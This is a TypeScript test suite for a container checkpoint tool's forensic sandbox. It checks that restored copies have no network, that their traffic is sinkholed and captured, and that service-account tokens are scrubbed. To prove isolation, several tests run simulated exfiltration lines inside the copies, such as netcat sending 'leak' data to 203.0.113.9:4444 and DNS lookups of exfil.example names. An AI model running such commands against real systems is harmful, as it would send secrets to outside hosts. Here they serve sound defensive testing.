/** A forensic sandbox: copies that reach nothing, are seen in all they try, and say what was changed in them. */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { bytesSource } from '@stillframe/core';
import { type CriClient, openCriClient } from '@stillframe/cri/client';
import { NamespaceMode } from '@stillframe/cri/proto';
import { rewriteImage } from '@stillframe/criu-image';
import { execute } from '@stillframe/demo/stage';
import { missingCapability, needs } from '@stillframe/testkit';
import { type Lab, openLab } from './lab.ts';
import { connectionsIn, questionsIn, readPcap } from './pcap.ts';

const { skip } = needs('checkpoint', 'docker-registry', 'tcpdump');

interface Copy {
  address: string;
  sandboxID: string;
  containerID: string;
  logPath: string;
  altered?: string[];
  clamped?: string[];
  pcap?: string;
}

const base64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
/** As a cluster would give it, with a signature of no key. */
const TOKEN = `${base64({ alg: 'RS256', kid: 'lab' })}.${base64({
  sub: 'system:serviceaccount:default:app',
})}.${'c2lnbmF0dXJl'.repeat(28)}`;
const ACCOUNT = '/run/secrets/kubernetes.io/serviceaccount';
const FORENSIC = ['--sandbox', 'forensic'];

describe('a forensic sandbox', { skip }, () => {
  let lab: Lab;
  let cri: CriClient;
  let archive: string;
  let original: string;
  let data: string;
  before(async () => {
    lab = await openLab();
    cri = await openCriClient({ socket: join(lab.folder, 'state/cri.sock') });
    data = join(lab.folder, 'data');
    await mkdir(data);
    const script = `mkdir -p ${ACCOUNT}; echo "$API_TOKEN" > ${ACCOUNT}/token; copy="kept:$API_TOKEN"
      i=0; while :; do i=$((i+1)); echo "count $i \${#copy}"; sleep 0.2; done`;
    const env = [`API_TOKEN=${TOKEN}`, 'ENDPOINT=https://production.example/v1'];
    await lab.run('default/app/shell', script, [...env.flatMap((each) => ['--env', each]), '--mount', `${data}:/data`]);
    await delay(1000);
    archive = (await lab.stillframe.json<{ archive: string }>(['checkpoint', 'default/app/shell'])).archive;
    original = digestOf(await readFile(archive));
  });
  after(async () => {
    await cri?.[Symbol.asyncDispose]();
    await lab[Symbol.asyncDispose]();
  });

  const restore = async (options: readonly string[], what = archive) => {
    const mount = ['--mount', `${data}:/data`];
    return (await lab.stillframe.json<{ restored: Copy[] }>(['restore', what], [...mount, ...options])).restored;
  };
  const one = async (options: readonly string[], what?: string) => {
    const [copy] = await restore(options, what);
    return copy ?? assert.fail('no copy');
  };
  const said = async (containerId: string, script: string) => {
    const cmd = ['/bin/busybox', 'sh', '-c', `(${script}) 2>&1`];
    const { stdout } = await cri.runtime.execSync({ containerId, cmd, timeout: 20n }, { timeoutMs: 30_000 });
    return new TextDecoder().decode(stdout);
  };
  const remove = (copy: Copy) => cri.runtime.removePodSandbox({ podSandboxId: copy.sandboxID });
  const info = async (copy: Copy) => {
    const { status, info: texts } = await cri.runtime.containerStatus({ containerId: copy.containerID, verbose: true });
    return { status, info: JSON.parse(texts['info'] ?? '{}') as { altered: string[]; clamped?: string[] } };
  };
  const sinkhole = async (copy: Copy) => {
    const { info: texts } = await cri.runtime.podSandboxStatus({ podSandboxId: copy.sandboxID, verbose: true });
    return (JSON.parse(texts['info'] ?? '{}') as { sinkhole?: { recording: boolean; answering: boolean } }).sinkhole;
  };

  test('a copy reaches nothing, has limits, writes nothing outside, and is a true one', async () => {
    const copy = await one(FORENSIC);
    assert.equal(await said(copy.containerID, 'ls /sys/class/net'), 'lo\n');
    assert.equal((await said(copy.containerID, 'cat /proc/net/route')).trim().split('\n').length, 1, 'no route');
    assert.match(await said(copy.containerID, 'echo x | nc -w 2 203.0.113.9 80'), /unreachable/i);
    assert.equal(await said(copy.containerID, 'cat /etc/resolv.conf'), '');
    assert.match(await said(copy.containerID, 'echo x > /data/x'), /Read-only/);
    assert.equal(await said(copy.containerID, 'cat /proc/1/environ').then((text) => text.includes(TOKEN)), true);
    const { status, info: more } = await info(copy);
    const { memoryLimitInBytes = 0n, cpuQuota = 0n } = status?.resources?.linux ?? {};
    assert.ok(memoryLimitInBytes > 512n << 20n && cpuQuota === 100_000n, `${memoryLimitInBytes} ${cpuQuota}`);
    assert.deepEqual(more.altered, []);
    assert.ok(more.clamped?.includes('mount at /data: read-only in a forensic sandbox'));
    await remove(copy);
  });

  test('a mount that is asked for read-only is so in any copy', async () => {
    const [copy] = (
      await lab.stillframe.json<{ restored: Copy[] }>(['restore', archive], ['--mount', `${data}:/data:ro`])
    ).restored;
    assert.match(await said(copy?.containerID ?? '', 'echo x > /data/x'), /Read-only/);
    if (copy) await remove(copy);
  });

  test('two altered copies in sinkholes: all they try is recorded, also past the death of the node', async () => {
    const alter = ['--scrub-tokens', '--set-env', 'ENDPOINT=http://sink'];
    const pcap = join(lab.folder, 'traffic.pcap');
    const copies = await restore([...FORENSIC, '--sinkhole', '--pcap', pcap, ...alter, '--copies', '2']);
    assert.deepEqual(
      copies.map((copy) => copy.pcap),
      [join(lab.folder, 'traffic-1.pcap'), join(lab.folder, 'traffic-2.pcap')],
    );
    for (const [index, copy] of copies.entries()) {
      const name = `copy-${index}.exfil.example`;
      assert.match(await said(copy.containerID, `nslookup ${name} 8.8.8.8`), /198\.18\.0\.1/);
      assert.match(await said(copy.containerID, `nslookup own-${name}`), /198\.18\.0\.1/);
      await said(copy.containerID, `echo leak-${index} | nc -w 2 203.0.113.9 4444`);
      const environment = (await said(copy.containerID, 'cat /proc/1/environ')).split('\0');
      assert.ok(environment.includes('ENDPOINT=http://sink'), environment.join(' '));
      assert.ok(!environment.some((text) => text.includes(TOKEN)));
      assert.ok(environment.some((text) => /^API_TOKEN=X+$/.test(text)));
      const file = await said(copy.containerID, `cat ${ACCOUNT}/token`);
      assert.ok(file.startsWith('scrubbed by Stillframe') && !file.includes(TOKEN.slice(0, 20)), file);
      assert.equal(file.length, TOKEN.length + 1);
    }
    const told = (await info(copies[0] ?? assert.fail())).status?.annotations['io.stillframe.altered'] ?? '';
    assert.match(told, /^variable ENDPOINT set in \d+ process\(es\); service-account tokens scrubbed: [1-9]\d* in the/);

    process.kill(lab.endpoints.pid, 'SIGKILL');
    await delay(300);
    await lab.stillframe.up(0);
    for (const copy of copies) {
      assert.deepEqual(await sinkhole(copy), { recording: true, answering: true });
      assert.match(await said(copy.containerID, 'nslookup afterwards.example 1.1.1.1'), /198\.18\.0\.1/);
    }
    await delay(300);
    for (const [index, copy] of copies.entries()) {
      const packets = await readPcap(copy.pcap ?? '');
      const questions = questionsIn(packets);
      for (const wanted of [
        `copy-${index}.exfil.example of 8.8.8.8`,
        `own-copy-${index}.exfil.example of 198.18.0.1`,
        'afterwards.example of 1.1.1.1',
      ]) {
        assert.ok(questions.includes(wanted), `${wanted} is not among ${questions.join(', ')}`);
      }
      assert.ok(!questions.some((text) => text.includes(`copy-${1 - index}`)), 'no packet of the other copy');
      assert.ok(connectionsIn(packets).includes('203.0.113.9:4444'), connectionsIn(packets).join(', '));
      assert.ok(packets.some(({ data: bytes }) => bytes.includes(`leak-${index}`)));
    }
    const bytes = await Promise.all(copies.map((copy) => readFile(copy.pcap ?? '')));
    for (const copy of copies) await remove(copy);
    assert.deepEqual(
      await Promise.all(copies.map((copy) => readFile(copy.pcap ?? ''))).then((all) => all.map((b) => b.length >= 24)),
      [true, true],
    );
    assert.ok(
      bytes.every((each) => each.length > 100),
      'the packets stay when the pod is gone',
    );
  });

  test('the token is in no memory of an altered copy, whose own checkpoint says what it is; the original is untouched', async () => {
    const copy = await one([...FORENSIC, '--scrub-tokens', '--name', 'scrubbed']);
    const again = (await lab.stillframe.json<{ archive: string }>(['checkpoint', 'default/scrubbed/shell'])).archive;
    const matches = async (path: string, text: string) =>
      (
        await execute([process.execPath, CLI, 'search', path, text, '--output', 'json']).catch(() => ({
          stdout: '{"matches":[]}',
        }))
      ).stdout;
    const count = async (path: string, text: string) =>
      (JSON.parse(await matches(path, text)) as { matches: unknown[] }).matches.length;
    assert.ok((await count(archive, TOKEN)) > 1, 'the original holds it in several places');
    assert.equal(await count(again, TOKEN), 0);
    assert.ok((await count(again, 'production.example')) > 0, 'the rest of its memory is there');
    assert.ok(!(await readFile(again)).includes(TOKEN), 'nor anywhere else in the archive');
    const evidence = JSON.parse(await readFile(`${again}.evidence.json`, 'utf8')) as { payload: string };
    const { predicate } = JSON.parse(Buffer.from(evidence.payload, 'base64').toString()) as {
      predicate: { altered?: string[] };
    };
    assert.deepEqual(predicate.altered, copy.altered);
    const third = await one([...FORENSIC, '--name', 'third'], again);
    assert.deepEqual(third.altered, [copy.altered?.join('; ')], 'what comes of an altered copy is one');

    assert.equal(digestOf(await readFile(archive)), original);
    const { containers } = await cri.runtime.listContainers({});
    const first = containers.find(({ labels }) => labels['io.kubernetes.pod.name'] === 'app')?.id ?? '';
    assert.ok((await said(first, 'cat /proc/1/environ')).includes(TOKEN));
    for (const each of [copy, third]) await remove(each);
  });

  test('what this host does not allow is clamped and told, not fatal', async () => {
    const patched = await raised(lab, archive);
    const copy = await one([], patched);
    const { info: more, status } = await info(copy);
    assert.equal(status?.annotations['io.stillframe.altered'], undefined, 'nobody wanted it so');
    assert.ok(
      copy.clamped?.some((text) => text.startsWith('limit NOFILE 1099511627776: ')),
      copy.clamped?.join('; '),
    );
    assert.deepEqual(more.clamped, copy.clamped);
    const score = (await said(copy.containerID, 'cat /proc/1/oom_score_adj')).trim();
    const free = missingCapability('sys-resource') === undefined;
    assert.equal(score === '-997', free);
    assert.equal(copy.clamped?.some((text) => text.startsWith('oom_score_adj -997: ')) ?? false, !free);
    await remove(copy);
  });

  test('what cannot be done is refused with a reason, and nothing is left', async () => {
    const pods = async () => (await lab.stillframe.json<{ pods: unknown[] }>(['pods'])).pods.length;
    const before = await pods();
    const refused = (options: readonly string[], reason: RegExp) => assert.rejects(restore(options), reason);
    await refused(['--set-env', `ENDPOINT=${'x'.repeat(100)}`], /ENDPOINT is \d+ bytes longer .*ERR_EDIT_ENVIRONMENT/s);
    await refused(['--set-env', 'NOBODY=x'], /no process was started with the variable NOBODY/);
    await refused([...FORENSIC, '--sinkhole', '--pcap', join(lab.folder, 'no/such/folder')], /ERR_SANDBOX_INVALID/);
    await writeFile(join(lab.folder, 'taken.pcap'), '');
    await refused([...FORENSIC, '--sinkhole', '--pcap', join(lab.folder, 'taken.pcap')], /exists already/);
    await refused([...FORENSIC, '--network', 'host'], /no way out/);
    const run = (annotations: Record<string, string>, network: NamespaceMode = NamespaceMode.POD) => {
      const metadata = { name: 'odd', uid: 'odd', namespace: 'default' };
      const linux = { securityContext: { namespaceOptions: { network } } };
      return cri.runtime.runPodSandbox({ config: { metadata, annotations, linux } });
    };
    await assert.rejects(run({ 'io.stillframe.network': 'off' }), /takes "none" or "cni"|is "off"/);
    await assert.rejects(run({ 'io.stillframe.network': 'none' }, NamespaceMode.NODE), /shares the host's network/);
    await assert.rejects(run({ 'io.stillframe.sandbox': 'Forensic' }), /is "Forensic"/);
    assert.equal(await pods(), before);
  });
});

const CLI = join(import.meta.dirname, '../../packages/cli/bin/stillframe.mjs');

function digestOf(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

/** The archive as if the container had been dumped where more is allowed. */
async function raised(lab: Lab, archive: string): Promise<string> {
  const folder = join(lab.folder, 'raised');
  await mkdir(folder);
  await execute(['tar', '-xf', archive, '-C', folder]);
  const core = join(folder, 'checkpoint/core-1.img');
  const bytes = await rewriteImage('core', bytesSource(await readFile(core)), ({ tc }) => {
    const limit = tc?.rlimits?.rlimits[7];
    if (!tc || !limit) return false;
    tc.oomScoreAdj = -997;
    limit.cur = 1n << 40n;
    limit.max = 1n << 40n;
    return true;
  });
  await writeFile(core, bytes ?? assert.fail('the image has no limits'));
  const patched = join(lab.folder, 'raised.tar');
  await execute(['sh', '-c', `cd ${folder} && tar --format=ustar -cf ${patched} *`]);
  return patched;
}
